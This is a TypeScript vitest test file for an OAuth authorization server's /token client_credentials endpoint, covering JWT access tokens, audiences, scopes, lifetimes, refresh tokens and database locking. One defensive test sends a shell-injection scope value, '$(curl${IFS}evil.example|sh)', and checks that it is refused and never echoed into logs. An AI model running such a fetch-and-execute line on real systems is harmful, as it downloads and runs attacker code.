/** What `/token` gives to a service that asks in its own name, and what it refuses (RFC 6749 §4.4 and §5, RFC 9068, RFC 8707). */
import { join } from 'node:path'
import Database from 'better-sqlite3'
import { createLocalJWKSet, jwtVerify, type JSONWebKeySet } from 'jose'
import { describe, expect, onTestFinished, test } from 'vitest'
import { introspect, refresh, tokens } from './support/admin.ts'
import { claimsOf, headerOf, post, request } from './support/client.ts'
import {
  API,
  ask,
  change,
  fresh,
  refusal,
  registered,
  resource,
  shareWithApi,
  startWithApi,
  PROTOCOL_CLAIMS,
} from './support/shared.ts'
import { sqliteTest } from './support/sqlite.ts'
import { inTime } from './support/in-time.ts'

const issuer = shareWithApi()

const keySet = async () => (await request(`${issuer().url}/.well-known/jwks.json`)).body as unknown as JSONWebKeySet

describe('an access token', () => {
  test('is a JWT of RFC 9068 that any JOSE library verifies with the published keys', async () => {
    const client = await registered(issuer())
    const { access_token: token } = await tokens(issuer(), client, { scope: 'b a' })
    const { payload, protectedHeader } = await jwtVerify(token ?? '', createLocalJWKSet(await keySet()), {
      issuer: issuer().issuer,
      audience: API,
      typ: 'at+jwt',
      algorithms: ['ES256'],
    })
    expect(protectedHeader).toEqual({ alg: 'ES256', typ: 'at+jwt', kid: expect.any(String) })
    expect(payload).toEqual({
      iss: issuer().issuer,
      sub: client.clientId,
      client_id: client.clientId,
      aud: API,
      scope: 'b a',
      iat: expect.closeTo(issuer().clock.now() / 1000, -1),
      exp: (payload.iat ?? 0) + 900,
      jti: expect.stringMatching(/^[0-9a-f-]{36}$/),
    })
  })

  test('is signed by RS256 where its resource wants that, by a key of the same set', async () => {
    const rsa = await resource(issuer(), { alg: 'RS256' })
    const client = await registered(issuer(), { resources: [rsa] })
    const { access_token: token } = await tokens(issuer(), client)
    const { protectedHeader } = await jwtVerify(token ?? '', createLocalJWKSet(await keySet()), { audience: rsa })
    expect(protectedHeader).toMatchObject({ alg: 'RS256', typ: 'at+jwt' })
    expect((await keySet()).keys.find(({ kid }) => kid === protectedHeader.kid)).toMatchObject({
      kty: 'RSA',
      alg: 'RS256',
    })
  })

  test('has typ JWT for a resource whose server refuses at+jwt', async () => {
    const plain = await resource(issuer(), { typ: 'JWT' })
    const client = await registered(issuer(), { resources: [plain] })
    expect(headerOf((await tokens(issuer(), client)).access_token ?? '').typ).toBe('JWT')
  })

  test('has a jti that no other token has, however many are made at once', async () => {
    const client = await registered(issuer())
    const made = await Promise.all(Array.from({ length: 40 }, () => tokens(issuer(), client)))
    expect(new Set(made.map(({ access_token: token }) => claimsOf(token ?? '').jti)).size).toBe(40)
  })

  test('names two resources in a list, and one alone as a string', async () => {
    const [first, second] = [await resource(issuer()), await resource(issuer())]
    const client = await registered(issuer(), { resources: [first, second] })
    const form: [string, string][] = [
      ['grant_type', 'client_credentials'],
      ['resource', first],
      ['resource', second],
    ]
    const both = await post(issuer(), '/token', form, client)
    expect(claimsOf(both.body.access_token).aud).toEqual([first, second])
    const twice = await post(issuer(), '/token', [...form.slice(0, 2), ['resource', first]], client)
    expect(claimsOf(twice.body.access_token).aud).toBe(first)
  })

  test('carries the claims of its resource and of its client, the client having the last word', async () => {
    const tenant = await resource(issuer(), { claims: { tenant: 'of the resource', region: 'eu' } })
    const client = await registered(issuer(), {
      resources: [tenant],
      claims: { tenant: 'acme', roles: ['reader', { deep: [1, null, 'ü'] }] },
    })
    expect(claimsOf((await tokens(issuer(), client)).access_token ?? '')).toMatchObject({
      tenant: 'acme',
      region: 'eu',
      roles: ['reader', { deep: [1, null, 'ü'] }],
    })
  })

  test.each(PROTOCOL_CLAIMS)('can never have %s as a claim of somebody’s own', async (name) => {
    const { operator } = issuer()
    const client = { client_id: fresh('client'), claims: { [name]: 'mine' } }
    expect(refusal(await operator.call('POST', '/admin/api/clients', client))).toBe('400 invalid_client_metadata')
    const api = { id: fresh('api'), claims: { [name]: 'mine' } }
    expect(refusal(await operator.call('POST', '/admin/api/resources', api))).toBe('400 invalid_request')
  })

  test('has no claims nested so deep that a parser downstream gives up', async () => {
    const deep = (levels: number): unknown => (levels === 0 ? 'bottom' : [deep(levels - 1)])
    const create = (levels: number) =>
      issuer().operator.call('POST', '/admin/api/clients', {
        client_id: fresh('client'),
        claims: { deep: deep(levels) },
      })
    expect((await create(10)).status).toBe(201)
    expect(refusal(await create(100))).toBe('400 invalid_client_metadata')
  })
})

describe('the answer of /token', () => {
  test('is never stored by anybody, and says type, lifetime in whole seconds and scope', async () => {
    const answer = await ask(issuer(), await registered(issuer()))
    expect(answer.status).toBe(200)
    expect(answer.headers.get('cache-control')).toBe('no-store')
    expect(answer.headers.get('pragma')).toBe('no-cache')
    expect(answer.headers.get('content-type')).toContain('application/json')
    expect(answer.body).toEqual({
      access_token: expect.any(String),
      token_type: 'Bearer',
      expires_in: 900,
      scope: 'a b',
    })
  })

  test('has no scope for a client that was given none; its token has the claim, empty, at introspection too', async () => {
    const client = await registered(issuer(), { scope: '' })
    const answer = await ask(issuer(), client)
    // RFC 6749 §5.1: it may be left out where it is what was asked for, and §3.3 has no spelling for none.
    expect(answer.body).not.toHaveProperty('scope')
    expect(claimsOf(answer.body.access_token).scope).toBe('')
    expect((await introspect(issuer(), client, answer.body.access_token)).body).toMatchObject({
      active: true,
      scope: '',
    })
  })
})

describe('the life of an access token', () => {
  test.each([
    { client: null, api: null, seconds: 900, rule: 'is the configured one where neither client nor resource says one' },
    { client: '1h', api: null, seconds: 3600, rule: 'is the client’s where only the client says one' },
    { client: null, api: '2m', seconds: 120, rule: 'is the resource’s where only the resource says one' },
    { client: '1h', api: '2m', seconds: 120, rule: 'is the shorter one where both say one' },
    { client: '1m', api: '2h', seconds: 60, rule: 'is the shorter one, whoever says it' },
  ])('$rule', async ({ client, api, seconds }) => {
    const target = await resource(issuer(), { ttl: api })
    const { body } = await ask(issuer(), await registered(issuer(), { resources: [target], access_token_ttl: client }))
    const { iat, exp } = claimsOf(body.access_token)
    expect({ answered: body.expires_in, signed: exp - iat }).toEqual({ answered: seconds, signed: seconds })
  })

  test('is that of SIGNET_ACCESS_TOKEN_TTL', async () => {
    const short = await startWithApi({ SIGNET_ACCESS_TOKEN_TTL: '7m' })
    expect((await ask(short, await registered(short))).body.expires_in).toBe(420)
  })
})

describe('the resource of a token', () => {
  test('is the client’s first where the request names none', async () => {
    const [first, second] = [await resource(issuer()), await resource(issuer())]
    const client = await registered(issuer(), { resources: [first, second] })
    expect(claimsOf((await tokens(issuer(), client)).access_token ?? '').aud).toBe(first)
    expect(claimsOf((await tokens(issuer(), client, { resource: second })).access_token ?? '').aud).toBe(second)
  })

  test('may be named as audience too, as clients of other issuers do', async () => {
    const [first, second] = [await resource(issuer()), await resource(issuer())]
    const client = await registered(issuer(), { resources: [first, second] })
    expect(claimsOf((await tokens(issuer(), client, { audience: second })).access_token ?? '').aud).toBe(second)
    const both = await tokens(issuer(), client, { resource: first, audience: second })
    expect(claimsOf(both.access_token ?? '').aud).toEqual([first, second])
  })

  test('is the issuer itself for a client without any, and gives no power by itself', async () => {
    const client = await registered(issuer(), { resources: [], scope: '' })
    const { access_token: token = '' } = await tokens(issuer(), client)
    expect(claimsOf(token).aud).toBe(issuer().issuer)
    const answer = await request(`${issuer().url}/admin/api/clients`, { headers: { authorization: `Bearer ${token}` } })
    expect(refusal(answer)).toBe('403 insufficient_scope')
  })

  test('cannot be the issuer for a client that is registered for another one', async () => {
    const client = await registered(issuer(), { scope: 'a signet:admin' })
    expect(refusal(await ask(issuer(), client, { resource: issuer().issuer }))).toBe('400 invalid_target')
  })

  test('that is not registered for the client is refused with the command that registers it', async () => {
    const answer = await ask(issuer(), await registered(issuer()), { resource: await resource(issuer()) })
    expect(refusal(answer)).toBe('400 invalid_target')
    expect(answer.body.error_description).toMatch(
      /which may name api .*signet client update \S+ --resource api --resource NEW\)/,
    )
  })

  test('that is registered but does not exist is refused with the command that creates it', async () => {
    const ghost = fresh('https://ghost.example.com/')
    const answer = await ask(issuer(), await registered(issuer(), { resources: [ghost] }))
    expect(refusal(answer)).toBe('400 invalid_target')
    expect(answer.body.error_description).toContain(`signet resource create ${ghost}`)
  })

  test('is compared as it stands: another case, slash or encoding is another resource', async () => {
    const target = await resource(issuer())
    const client = await registered(issuer(), { resources: [target] })
    for (const near of [
      `${target}/`,
      target.toUpperCase(),
      `${target}#`,
      `${target}?`,
      ` ${target}`,
      target.replace('api.', '%61pi.'),
    ]) {
      expect(refusal(await ask(issuer(), client, { resource: near }))).toBe('400 invalid_target')
    }
  })

  test('can be several only where one token serves them all', async () => {
    const [es, rs, plain] = [
      await resource(issuer()),
      await resource(issuer(), { alg: 'RS256' }),
      await resource(issuer(), { typ: 'JWT' }),
    ]
    const client = await registered(issuer(), { resources: [es, rs, plain] })
    expect(refusal(await ask(issuer(), client, { resource: es, audience: rs }))).toBe('400 invalid_target')
    expect(refusal(await ask(issuer(), client, { resource: es, audience: plain }))).toBe('400 invalid_target')
    expect((await ask(issuer(), client, { resource: rs })).status).toBe(200)
  })
})

describe('the scope of a token', () => {
  test('is, unless asked for, what both client and resource know', async () => {
    const target = await resource(issuer(), { scope: 'read write' })
    const client = await registered(issuer(), { resources: [target], scope: 'write other read' })
    expect((await ask(issuer(), client)).body.scope).toBe('write read')
  })

  test('is what was asked for, in that order, each once', async () => {
    expect((await ask(issuer(), await registered(issuer()), { scope: 'b a b' })).body.scope).toBe('b a')
  })

  test('takes every character of RFC 6749, as RabbitMQ’s scopes need them', async () => {
    const scope = "rabbitmq.read:*/* rabbitmq.tag:administrator !#$%&'()*+,-./:;<=>?@[]^_`{|}~"
    const client = await registered(issuer(), { scope })
    expect((await ask(issuer(), client, { scope })).body.scope).toBe(scope)
  })

  test('that the client lacks is refused, with the command that registers it', async () => {
    const answer = await ask(issuer(), await registered(issuer()), { scope: 'a write' })
    expect(refusal(answer)).toBe('400 invalid_scope')
    expect(answer.body.error_description).toMatch(/may ask for a b .*signet client update/)
  })

  test('that the resource lacks is refused, naming the resource', async () => {
    const target = await resource(issuer(), { scope: 'a' })
    const answer = await ask(issuer(), await registered(issuer(), { resources: [target] }), { scope: 'a b' })
    expect(refusal(answer)).toBe('400 invalid_scope')
    // The whole line: what a resource or client has is replaced by what a change names.
    expect(answer.body.error_description).toContain(`signet resource update ${target} --scope 'a NEW'`)
  })

  test('of two resources is what both know', async () => {
    const [first, second] = [await resource(issuer(), { scope: 'a b' }), await resource(issuer(), { scope: 'b c' })]
    const client = await registered(issuer(), { resources: [first, second], scope: 'a b c' })
    expect((await ask(issuer(), client, { resource: first, audience: second })).body.scope).toBe('b')
    const more = { resource: first, audience: second, scope: 'a b' }
    expect(refusal(await ask(issuer(), client, more))).toBe('400 invalid_scope')
  })

  test.each([
    { what: 'a tab', scope: 'a\tb' },
    { what: 'a quote', scope: 'a"b' },
    { what: 'a backslash', scope: 'a\\b' },
    { what: 'a letter beyond ASCII', scope: 'ä' },
    { what: 'a line break', scope: 'a\nb' },
    { what: 'nothing but spaces', scope: '  ' },
    { what: 'a value of 300 characters', scope: 'x'.repeat(300) },
    { what: '101 values', scope: Array.from({ length: 101 }, (_, index) => `s${index}`).join(' ') },
  ])('of $what is refused', async ({ scope }) => {
    expect(refusal(await ask(issuer(), await registered(issuer()), { scope }))).toBe('400 invalid_scope')
  })

  test('with unusual characters is not repeated into errors and logs, where somebody might paste it into a shell', async () => {
    const answer = await ask(issuer(), await registered(issuer()), { scope: '$(curl${IFS}evil.example|sh)' })
    expect(refusal(answer)).toBe('400 invalid_scope')
    expect(answer.text + issuer().logged.join('\n')).not.toContain('evil.example')
  })
})

describe('offline_access', () => {
  test('brings a refresh token, needs no registration as a scope, and the resource need not know it', async () => {
    const target = await resource(issuer(), { scope: 'a' })
    const client = await registered(issuer(), { resources: [target], scope: 'a' })
    const answer = await ask(issuer(), client, { scope: 'a offline_access' })
    expect(answer.body).toMatchObject({ scope: 'a offline_access', refresh_token: expect.stringMatching(/^sgr_/) })
    expect(claimsOf(answer.body.access_token)).toMatchObject({ scope: 'a offline_access', sid: expect.any(String) })
  })

  test('is never given unasked, even where the client has it registered', async () => {
    const answer = await ask(issuer(), await registered(issuer(), { scope: 'a offline_access' }))
    expect(answer.body).toMatchObject({ scope: 'a' })
    expect(answer.body).not.toHaveProperty('refresh_token')
    expect(claimsOf(answer.body.access_token)).not.toHaveProperty('sid')
  })

  test('is refused for a client that is not registered for refresh tokens', async () => {
    const client = await registered(issuer(), { grant_types: ['client_credentials'], scope: 'a offline_access' })
    expect(refusal(await ask(issuer(), client, { scope: 'offline_access' }))).toBe('400 invalid_scope')
    expect((await ask(issuer(), client)).status).toBe(200)
  })
})

describe('a grant type', () => {
  test('that no client can use is named unsupported, whoever asks for it', async () => {
    const client = await registered(issuer())
    const unknown = [
      'password',
      'implicit',
      'urn:ietf:params:oauth:grant-type:device_code',
      'CLIENT_CREDENTIALS',
      'constructor',
      '__proto__',
      'client_credentials ',
    ]
    for (const type of unknown) {
      expect(refusal(await ask(issuer(), client, { grant_type: type }))).toBe('400 unsupported_grant_type')
    }
  })

  test('that this client is not registered for is refused with the command that registers it', async () => {
    const client = await registered(issuer(), { grant_types: ['refresh_token'] })
    const answer = await ask(issuer(), client)
    expect(refusal(answer)).toBe('400 unauthorized_client')
    expect(answer.body.error_description).toContain(
      `signet client update ${client.clientId} --grant client_credentials`,
    )
  })

  test('that is taken from the client is refused from then on', async () => {
    const client = await registered(issuer())
    await change(issuer(), client, { grant_types: ['refresh_token'] })
    expect(refusal(await ask(issuer(), client))).toBe('400 unauthorized_client')
  })

  test('is needed', async () => {
    expect(refusal(await post(issuer(), '/token', { scope: 'a' }, await registered(issuer())))).toBe(
      '400 invalid_request',
    )
  })

  test('other than refresh_token has no place at /refresh', async () => {
    const answer = await post(issuer(), '/refresh', { grant_type: 'client_credentials' }, await registered(issuer()))
    expect(refusal(answer)).toBe('400 unsupported_grant_type')
  })
})

test('a public client cannot be registered for client_credentials, and asking for it gives nothing', async () => {
  const metadata = { client_id: fresh('client'), token_endpoint_auth_method: 'none', resources: [API] }
  const { operator } = issuer()
  const greedy = await operator.call('POST', '/admin/api/clients', { ...metadata, grant_types: ['client_credentials'] })
  expect(refusal(greedy)).toBe('400 invalid_client_metadata')
  const modest = await operator.call('POST', '/admin/api/clients', { ...metadata, grant_types: ['refresh_token'] })
  expect(modest.body).not.toHaveProperty('client_secret')
  const answer = await post(issuer(), '/token', { grant_type: 'client_credentials', client_id: metadata.client_id })
  expect(refusal(answer)).toBe('400 unauthorized_client')
})

describe('while another process keeps the database locked', () => {
  const locked = async () => {
    const own = await startWithApi()
    const client = await registered(own)
    const { refresh_token: held = '' } = await tokens(own, client, { scope: 'a offline_access' })
    const other = new Database(join(own.folder, 'data/signet.db'))
    onTestFinished(() => void other.close())
    other.exec('BEGIN IMMEDIATE')
    return { own, client, held, release: () => other.exec('ROLLBACK') }
  }

  sqliteTest(
    'client_credentials goes on: it touches no disk, and neither do key set, metadata and health',
    async () => {
      const { own, client } = await locked()
      for (let each = 0; each < 20; each++) {
        const began = performance.now()
        expect((await ask(own, client)).status).toBe(200)
        expect(performance.now() - began).toBeLessThan(inTime(1000))
      }
      for (const path of ['/.well-known/jwks.json', '/.well-known/openid-configuration', '/livez', '/readyz']) {
        expect((await request(own.url + path)).status).toBe(200)
      }
    },
  )

  sqliteTest('a refresh is 503 with Retry-After soon, never a verdict, and its token works afterwards', async () => {
    const { own, client, held, release } = await locked()
    const began = performance.now()
    const refused = await refresh(own, client, held)
    expect(performance.now() - began).toBeLessThan(inTime(2500))
    expect(refusal(refused)).toBe('503 temporarily_unavailable')
    expect(refused.headers.get('retry-after')).toMatch(/^[1-9]\d*$/)
    expect(refused.headers.get('cache-control')).toBe('no-store')
    release()
    expect((await refresh(own, client, held)).status).toBe(200)
  })
})
